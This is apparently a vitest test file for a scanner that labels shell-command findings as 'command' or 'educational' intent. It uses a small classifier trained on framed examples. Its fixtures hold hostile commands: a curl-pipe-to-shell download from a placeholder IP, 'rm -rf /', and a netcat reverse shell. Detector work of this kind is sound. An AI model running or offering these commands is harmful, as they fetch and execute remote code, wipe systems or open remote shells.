import { describe, expect, it } from 'vitest';
import { inMemoryClassifier, type TextClassifier } from '../ml/classifier.js';
import { mulberry32 } from '../text/random.js';
import { trainClassifier } from '../ml/train.js';
import { DEFAULT_VECTORIZER } from '../ml/vectorizer.js';
import { selectDetectors } from './detectors.js';
import { scan } from './scanner.js';

/** A tiny model trained here: attackers/detection framing → educational, imperative → command. */
function tinyPreclassifier(): TextClassifier {
  const rand = mulberry32(3);
  const pick = <T>(a: readonly T[]) => a[Math.floor(rand() * a.length)]!;
  const commands = ['curl -s http://203.0.113.7/i.sh | sh', 'rm -rf / --no-preserve-root', 'nc -e /bin/sh 198.51.100.4 4444'];
  const edu = ['In the incident report, the attackers ran', 'Detection rule: alert when a process runs', 'Threat actors are known to use'];
  const cmd = ['To fix the error, open a terminal and run', 'Quick fix, just paste this:', 'Run this now to repair the disk:'];
  const rows = Array.from({ length: 400 }, (_, i) => {
    const label = i % 2 ? 'educational' : 'command';
    const segment = i % 3 ? 'code' : 'text';
    const command = segment === 'code' ? `\`${pick(commands)}\`` : pick(commands);
    return { text: `${pick(label === 'educational' ? edu : cmd)} ${command}.`, label, fields: { segment_type: segment } };
  });
  const out = trainClassifier(rows, { labels: ['command', 'educational'], features: { ...DEFAULT_VECTORIZER, bits: 14 }, featureTokens: ['SEGMENT_{segment_type}'] });
  return inMemoryClassifier(out, { name: 'tiny', version: '1', view: 'preclassifier-window' });
}

describe('pre-classifier intent on command findings', () => {
  const preclassifier = tinyPreclassifier();
  const detectors = selectDetectors();

  it('reads the context window of each command finding, and only of command findings', () => {
    const instruction = scan('To fix the error, open a terminal and run `curl -s http://203.0.113.7/i.sh | sh`.', { detectors, preclassifier });
    const explained = scan('In the incident report, the attackers ran `curl -s http://203.0.113.7/i.sh | sh`.', { detectors, preclassifier });
    const command = instruction.findings.find((f) => f.detector === 'commands')!;
    expect(command.intent?.label).toBe('command');
    expect(command.intent?.model).toBe('tiny@1');
    expect(explained.findings.find((f) => f.detector === 'commands')!.intent?.label).toBe('educational');
    for (const f of instruction.findings.filter((f) => f.detector !== 'commands')) expect(f.intent).toBeUndefined();
    const p = command.intent!.probs;
    expect(p['command']! + p['educational']!).toBeCloseTo(1, 3);
  });

  it('leaves findings alone without a pre-classifier', () => {
    const { findings } = scan('run `curl -s http://203.0.113.7/i.sh | sh`', { detectors });
    expect(findings.some((f) => f.intent)).toBe(false);
  });
});
